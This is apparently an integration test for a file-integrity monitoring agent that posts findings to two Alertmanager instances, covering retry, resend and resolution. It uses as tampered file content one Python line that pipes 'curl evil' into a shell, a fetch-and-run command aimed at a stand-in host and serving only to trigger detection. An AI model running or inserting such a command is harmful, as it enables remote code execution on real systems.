// The real agent posting to two real Alertmanagers (Debian's prometheus-alertmanager) on 127.0.0.1:
// a finding fires in both, is re-posted while open, reaches the one that was down once it is up,
// and is resolved in both by the repair.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { agentFixture, APP_CONTENT, APP_FILE, isAlert, startAgent, YEARLY, type AlertLine, type LogLine } from '../helpers/agent.js';
import { freePort, startAlertmanager, type AmAlert, type RunningAlertmanager } from '../helpers/alertmanager.js';
import { md5 } from '../helpers/fixture.js';

const TAMPERED = 'import os; os.system("curl evil | sh")\n';
/** Each post keeps the alert firing 4 resends ahead: 20 s, far more than the repair needs to be delivered and read back. */
const RESEND = '5s';

function isFinding(a: AmAlert): boolean {
  return a.labels['alertname'] === 'PkgwatchFinding' && a.labels['path'] === APP_FILE;
}

async function findingIn(am: RunningAlertmanager): Promise<AmAlert | undefined> {
  return (await am.alerts()).find(isFinding);
}

/** Polls Alertmanager's API until `cond` holds for the finding's alert (or its absence). */
async function waitForFinding(am: RunningAlertmanager, what: string, cond: (a: AmAlert | undefined) => boolean): Promise<AmAlert | undefined> {
  const end = Date.now() + 180_000;
  for (;;) {
    const a = await findingIn(am);
    if (cond(a)) return a;
    if (Date.now() > end) assert.fail(`timed out waiting for ${what} in Alertmanager ${am.url}; last seen: ${JSON.stringify(a)}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

function delivered(sink: string, id: string): (l: LogLine) => boolean {
  return (l) => l.kind === 'alert.delivered' && l['sink'] === sink && (l['ids'] as string[]).includes(id);
}

test('alertmanager: a finding fires in both members of a cluster, is re-posted while open, waits for the one that is down, and is resolved by the repair', async (t) => {
  const { fx, stateDir } = agentFixture(t);
  const am1 = await startAlertmanager(t, await freePort());
  const port2 = await freePort(); // the second member is down when the finding opens
  const agent = await startAgent({
    t,
    fx,
    stateDir,
    config: {
      scope: { packages: ['app'] },
      schedule: { scoped: YEARLY, full: YEARLY },
      watch: { alert_writes: false },
      alerts: { retry_min: '100ms', retry_max: '400ms', host: 'web1.test', alertmanager: { url: [am1.url, `http://127.0.0.1:${port2}`], resend: RESEND } },
    },
  });
  const from = agent.mark();
  fx.write(APP_FILE, TAMPERED);
  const opened = await agent.waitFor<AlertLine>('the opened alert', isAlert('findings.opened'), { from });

  // The first member has it, with the labels that tell it apart and route it, and what was found.
  const first = await waitForFinding(am1, 'the finding', (a) => a !== undefined);
  assert.ok(first !== undefined);
  assert.deepEqual(first.labels, { alertname: 'PkgwatchFinding', host: 'web1.test', package: 'app', path: APP_FILE, status: 'changed', severity: 'critical' });
  assert.equal(first.status.state, 'active');
  assert.equal(first.annotations['expected'], md5(APP_CONTENT));
  assert.equal(first.annotations['actual'], md5(TAMPERED));
  assert.equal(first.annotations['path'], APP_FILE);
  assert.match(first.annotations['summary'] ?? '', /app: changed \/usr\/lib\/app\/main\.py on web1\.test/);
  assert.ok(Date.parse(first.endsAt) > Date.parse(first.startsAt), JSON.stringify(first));

  // The second member is down: its own queue retries while the first one goes on being served.
  await agent.waitFor('a failed delivery to the second member', (l) => l.kind === 'alert.failed' && l['sink'] === 'alertmanager-2', { from });
  // While the finding is open the agent posts it again, moving endsAt ahead.
  const again = await waitForFinding(am1, 'a resend', (a) => a !== undefined && Date.parse(a.updatedAt) > Date.parse(first.updatedAt) && Date.parse(a.endsAt) > Date.parse(first.endsAt));
  assert.equal(again?.startsAt, first.startsAt, 'the alert keeps its start across resends');

  // The second member starts: the outbox delivers what it held.
  const am2 = await startAlertmanager(t, port2);
  await agent.waitFor('the opened alert delivered to the second member', delivered('alertmanager-2', opened.line.event.id), { from });
  const second = await waitForFinding(am2, 'the finding in the second member', (a) => a !== undefined);
  assert.deepEqual(second?.labels, first.labels);

  // The repair resolves it in both: once the resolved event is delivered, neither lists it as active,
  // although the last post had kept it firing until `firingUntil`.
  const firingUntil = Math.min(Date.parse((await findingIn(am1))?.endsAt ?? ''), Date.parse((await findingIn(am2))?.endsAt ?? ''));
  const repaired = agent.mark();
  fx.write(APP_FILE, APP_CONTENT);
  const resolved = await agent.waitFor<AlertLine>('the resolved alert', isAlert('findings.resolved'), { from: repaired });
  await agent.waitFor('resolved delivered to the first member', delivered('alertmanager-1', resolved.line.event.id), { from: repaired });
  await agent.waitFor('resolved delivered to the second member', delivered('alertmanager-2', resolved.line.event.id), { from: repaired });
  const [left1, left2] = [await findingIn(am1), await findingIn(am2)];
  const readAt = Date.now();
  assert.ok(readAt < firingUntil, `read back after the alert would have expired anyway (${new Date(readAt).toISOString()} >= ${new Date(firingUntil).toISOString()}): cannot tell a resolve from an expiry`);
  assert.equal(left1, undefined, `still active in the first member: ${JSON.stringify(left1)}`);
  assert.equal(left2, undefined, `still active in the second member: ${JSON.stringify(left2)}`);
  await agent.stop();
});
